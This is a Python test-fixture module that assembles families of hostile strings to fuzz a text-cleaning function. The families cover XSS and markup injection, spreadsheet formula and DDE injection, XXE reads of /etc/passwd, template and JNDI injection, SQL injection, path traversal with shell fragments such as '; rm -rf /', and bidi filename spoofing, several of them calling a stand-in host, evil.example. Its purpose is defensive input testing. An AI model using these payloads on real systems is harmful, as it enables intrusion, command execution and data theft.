"""Texts that want to be more than text: `RAW` as people could send them, `HOSTILE` what is left after cleaning.

They come in families, put together here, so that a new sink is tried with every trick and not with the famous ones.
"""

from itertools import product

from cards.text import clean_line

_MARKUP = """
<script>window.__xss=1</script>
<ScRiPt src=http://evil.example/x.js></sCrIpT>
"><script>alert(1)</script>
'><img src=x onerror=alert(1)>
<img src="http://evil.example/i.png">
<svg onload=alert(1)>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<a href="javascript:alert(1)">x</a>
<a href='http://evil.example'>x</a>
<iframe src=//evil.example></iframe>
<form action=http://evil.example><input name=key></form>
<style>*{display:none}</style>
</style><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><b>x</b>
<!-- comment
-->
<![CDATA[ x ]]>
<?php echo 1 ?>
<base href=http://evil.example>
<meta http-equiv=refresh content=0>
<link rel=stylesheet href=//evil.example>
<object data=x></object>
<b>bold</b><i>it</i><br><sub>1</sub><sup>2</sup>
<span style="font-size:99px">big</span>
&lt;script&gt;
&amp;amp;
&#60;script&#62;
&nbsp;&copy
{{ 7*7 }}
{% for x in y %}
{# gone #}
${7*7}
#{7*7}
<%= 7*7 %>
%{x} %{customdata[0]}
%(name)s %s %d {0} {n} {card} {}
\\u003cscript\\u003e
javascript:alert(1)
data:text/html,<script>alert(1)</script>
"""

_MARKDOWN = """
# heading
## heading ##
#
===
---
***
___
- item
+ item
* item
1. item
1) item
123456789. item
> quote
>
`code`
``co`de``
```python
~~~
[link](http://evil.example)
[link]: http://evil.example
[link][ref]
[^1]: footnote
![image](http://evil.example/i.png)
![](x)
<http://evil.example>
<me@evil.example>
http://evil.example/a_b_c
https://evil.example/?q=1&r=2
www.evil.example
WWW.EVIL.EXAMPLE
ftp://evil.example
mailto:me@evil.example
me@evil.example
http://evil.example/`x`
http://evil.example/a|b
`http://evil.example`
|http://evil.example|
**bold** __bold__ *it* _it_ ~~gone~~
a\\
\\
\\\\
\\[x\\](y)
| a | b |
| --- | --- |
a | b
:--
: definition
:material/home: :red[x] :smile:
::: note
$x$
$$\\rule{50em}{20em}$$
\\(x\\) \\[x\\]
==mark==
^sup^ ~sub~
- [ ] task
@everyone #123
!important
"""

_FORMULAS = """
=1+1
=HYPERLINK("http://evil.example","x")
+1+1
-1+1
@SUM(1)
＝1+1
＋1
－1
＠x
'=1+1
"=1+1"
=cmd|' /C calc'!A0
;=1
,"x
"
""
a,b;c"d
%0A=1
"""

_UNICODE = [
    "\u202eevil\u202c",
    "\u2066x\u2069 \u200f y",
    "ש" * 5 + " (a) " + "ع" * 5,
    "👩‍👩‍👧‍👦 🏳️‍🌈 🇫🇮 👍🏽",
    "Z̸̢̛̗a̵̧l̶g̷o̸" * 3,
    "W" * 200,
    "ä" * 200,
    "e\u0301 é Å Å",
    "\ufeffbom",
    "zero\u200bwidth\u200djoin\u2060er",
    "a\u00adb",
    "\U0001d4d7\U0001d4ee\U0001d4f5\U0001d4f5\U0001d4f8",
    "čđŋšŧž Đ",
    "漢字" * 60,
    "Null",
    "None",
    "NaN",
    "<NA>",
    "true",
    "0x1F",
    "1e999",
    "../../etc/passwd",
    "CON",
    "a\u2028b\u2029c",
    "tab\there",
    "\x00\x0b\x1b[31mred",
    "\ud800half",
    "\ufffe\uffff",
    "​",
]

_TAGS = (
    *("img", "svg", "iframe", "object", "embed", "link", "base", "form", "math", "template", "video", "details"),
    *("marquee", "body", "input", "xmp", "plaintext", "noscript", "w:t", "a:t", "c:v", "si", "!DOCTYPE", "?xml"),
)
_ATTRIBUTES = (
    " src=x onerror=alert(1)>",
    "/onload=fetch('//evil.example')>",
    ' style="background:url(//evil.example/x)">y</{tag}>',
)

_XML = [
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    '<!ENTITY % p SYSTEM "http://evil.example/x.dtd">%p;',
    "&e;",
    "&lol9;",
    "&#x0;",
    "&#x202e;",
    "&#xD800;",
    "&apos;&quot;&lt;&gt;&amp;",
    "]]>",
    "<![CDATA[]]]]><![CDATA[>]]>",
    '<?xml-stylesheet href="http://evil.example/x.xsl"?>',
    "<w:instrText>INCLUDEPICTURE http://evil.example/i.png</w:instrText>",
    '<w:fldSimple w:instr="DDEAUTO c:\\windows\\system32\\cmd.exe"/>',
    '<w:hyperlink r:id="rId1"><w:r><w:t>x</w:t></w:r></w:hyperlink>',
    '<a:hlinkClick r:id="rId1" action="ppaction://program"/>',
    "{ DDEAUTO c:\\windows\\system32\\cmd.exe }",
    "{ HYPERLINK http://evil.example }",
    "</w:t></w:r></w:p><w:p><w:r><w:t>out",
    "</t></si><si><t>out",
    "</c:v></c:pt>",
    'x" descr="y',
    "x' r:id='rId9",
    "_x000D_",
    "_x0041_",
    "_x005F_",
    "_xD800_",
    "a_x0000_b",
    'xmlns:x="http://evil.example"',
    'standalone="no"?>',
]

_TYPST = """
#import "/etc/passwd": *
#include "/etc/passwd"
#read("/etc/passwd")
#eval("1 + 1")
#plugin("x.wasm")
#let x = 1
#set page(width: 1pt)
#show: none
#{ panic("x") }
#[content]
#image("x.png")
#link("http://evil.example")[x]
#for x in range(9999999999) { x }
#while true {}
@label
<label>
= Heading
== Heading
/ Term: definition
// comment
/* comment
*/
$ x^2 $
$ #panic() $
```typ #panic()```
`raw`
*strong* _emph_
\\u{1F600}
\\#x
a -- b --- c ... ~ -?
"smart" 'quotes'
]
[
}
{
)
(
"
\\
\\"
#
##
#x.y
https://evil.example/#a[b]
"""

_STARTS = "=+-@＝＋－＠﹦﹢﹣﹫−"
_BODIES = (
    "1+1",
    "SUM(A1:A9)*2",
    'HYPERLINK("http://evil.example/?"&A1,"ok")',
    "cmd|' /C calc'!A0",
    'WEBSERVICE("http://evil.example")',
    'DDE("cmd";"/C calc";"x")',
)
_BEFORE = (
    *(" ", "  ", "\u00a0", "\u3000", "\u2003", "\u200b", "\u2060", "\ufeff", "\u00ad", "\t", "\r", "\n", "\v", "\f"),
    *("\x00", "\u2028", '"', "'", ";", ",", "|", "%0A", "\\", "\u202e", "\u200f", "a\t", "a\n"),
)

_CONTROLS = [f"control {code:02X}{chr(code)} here" for code in (*range(0x20), *range(0x7F, 0xA0))]
_BIDI = [f"bidi {code:04X} user{chr(code)}gpj.exe" for code in (0x61C, 0x200E, 0x200F, *range(0x202A, 0x202F))] + [
    f"bidi {code:04X} {chr(code)}(evil){chr(0x2069)}" for code in range(0x2066, 0x206A)
]
_NO_LETTERS = [
    f"point {code:04X} {chr(code)} here"
    for code in (
        *(0xD800, 0xDBFF, 0xDC00, 0xDFFF, 0xFDD0, 0xFDEF, 0xFFFE, 0xFFFF, 0x1FFFE, 0x10FFFF, 0xFFF9, 0xFFFB, 0xFFFC),
        *(0xFFFD, 0xE000, 0xF8FF, 0xF0000, 0x10FFFD, 0xE0001, 0xE0041, 0xE007F, 0xFE00, 0xFE0F, 0xE0100, 0x180E),
        *(
            0x115F,
            0x3164,
            0xFFA0,
            0x2800,
            0x2061,
            0x2063,
            0x206A,
            0x200B,
            0x200C,
            0x200D,
            0xFEFF,
            0xAD,
            0x34F,
            0x17B4,
        ),
    )
]

_EMOJI = [
    *("😀", "👍🏿", "👩🏽‍🚒", "👨‍👩‍👧‍👦", "🧑🏻‍🤝‍🧑🏿", "🏴‍☠️", "🏴󠁧󠁢󠁳󠁣󠁴󠁿", "🇫🇮🇸🇪🇦🇽", "1️⃣2️⃣#️⃣", "❤️‍🔥", "☺︎☺️", "🫠🪿"),
    *("👍" * 100, "👨‍👩‍👧‍👦" * 40, "🇫" * 9, "\u200d👩\u200d", "🏿", "\ufe0f\u20e3", "😀\u0301", "⏎⌘␀"),
]
_ZALGO = [
    letter + "".join(chr(0x300 + (7 * n + place) % 0x70) for n in range(marks)) + "go"
    for place, (letter, marks) in enumerate(product("ZaÅ1ש", (2, 3, 4, 40, 400)))
]
_LONG = [
    piece * times
    for piece, times in product(("W", "ö", "漢", "ﷺ", "á̧", "-", ".", "/", "_", "ab", "1", "ש"), (60, 300))
]
_SCRIPTS = [
    *(
        "Áššu čájet",
        "Ǥiella ǥuovlu",
        "Ænigma œuvre ﬁne ﬂat ĳs",
        "ŁĄKA źdźbło",
        "İIıi ẞß ŒÆ",
        "Ωμέγα",
        "Привет, мир",
        "שלום עולם",
    ),
    *(
        "مرحبا بالعالم",
        "ﷺ ﷽",
        "हिन्दी क्षेत्र",
        "ภาษาไทยไม่มีวรรค",
        "한국어 각",
        "日本語のテキスト、句読点。",
        "中文",
        "ქართული",
        "አማርኛ",
        "ᏣᎳᎩ",
    ),
    *(
        "𝓗𝓮𝓵𝓵𝓸 ℌ𝔢𝔩𝔩𝔬",
        "ｆｕｌｌｗｉｄｔｈ",
        "ⓒⓘⓡⓒⓛⓔ",
        "uʍop ǝpısdn",
        "½ ² ₂ Ⅻ ㎏",
        "a\u00a0b\u2009c\u202fd\u3000e",
        "שלום (hello) 123 مرحبا",
    ),
]

_PATHS = """
../../../etc/passwd
..\\..\\windows\\win.ini
/etc/passwd
/dev/null
C:\\Windows\\System32
C:evil
\\\\evil.example\\share
//evil.example/share
file:///etc/passwd
~/.ssh/id_rsa
~root
.
..
...
.htaccess
a/b
a\\b
a:b
a*b?
a|b<c>d"e
CON
con.txt
NUL
AUX.docx
LPT1
name.
name .exe
name.docx.exe
%2e%2e%2f
%00
$HOME
%USERPROFILE%
`id`
$(id)
; rm -rf /
&& calc
| cat
-rf
--help
@file
"""

_SQL = """
'
''
"; DROP TABLE events; --
' OR '1'='1
' OR 1=1 --
1; SELECT pg_sleep(10)
') UNION SELECT 1,2,3 --
admin'--
x' AND (SELECT 1 FROM (SELECT sleep(9))x)='
%_%
:name ?1 $1 @p1
/*!50000 x */
\\' OR 1=1
NULL
"""

_ANSI = [
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07",
    "\x1b[2J",
    "\x9b31mred",
]
_ANSI += ["[31mred[0m", "\x1b[1;1H", "a\bb\bc", "bell\x07", "50%\r100%"]

_TEMPLATES = """
{{ config }}
{{ ''.__class__.__mro__ }}
{{ self }}
{%- raw -%}
{% include "/etc/passwd" %}
{{{ x }}}
{{= x }}
<%- x %>
<#assign x="freemarker">
#set($x=1)
[[${7*7}]]
@{7*7}
*{7*7}
~{x}
${jndi:ldap://evil.example/x}
${IFS}
$x
$$
%s%s%s%n
%(title)s
%d %5$s
{title}
{0.__class__}
{n!r:>99999}
{
}
{}
{{}}
:param
{name
&#123;&#123; x
[% x %]
"""

_NUMBERS = """
007
0000
0123456789012345678901234567890
1E5
1e-5
1.5
1,5
1 000
1.000,50
.5
5.
-0
(5)
5-
+358 40 123 4567
040-1234567
50 %
€5
5 €
1/2
3/4
1-2
2-3-4
MAR1
SEPT2
DEC1
1/1/1900
31.12.2026
2026-11-22
2026-11-22T10:00:00Z
12:30
24:00:00
TRUE
FALSE
tosi
#N/A
#REF!
#DIV/0!
#NAME?
0x1F
0b1
1_000
Infinity
-inf
nan
null
nil
undefined
N/A
n/a
-
--
١٢٣
१२३
１２３
½
010190-123A
FI21 1234 5600 0007 85
"""

_LINES = (_MARKUP, _MARKDOWN, _TYPST, _PATHS, _SQL, _TEMPLATES, _NUMBERS)

RAW = [
    *(line for family in _LINES for line in family.split("\n")),
    *_FORMULAS.split("\n"),
    *(f"<{tag}{attribute.format(tag=tag)}" for tag, attribute in product(_TAGS, _ATTRIBUTES)),
    *_XML,
    *(start + body for start, body in product(_STARTS, _BODIES)),
    *(f"{before}=1+{place}" for place, before in enumerate(_BEFORE)),
    *_CONTROLS,
    *_BIDI,
    *_NO_LETTERS,
    *_EMOJI,
    *_ZALGO,
    *_LONG,
    *_SCRIPTS,
    *_ANSI,
    *_UNICODE,
]

HOSTILE = list(dict.fromkeys(text for text in map(clean_line, RAW) if text))
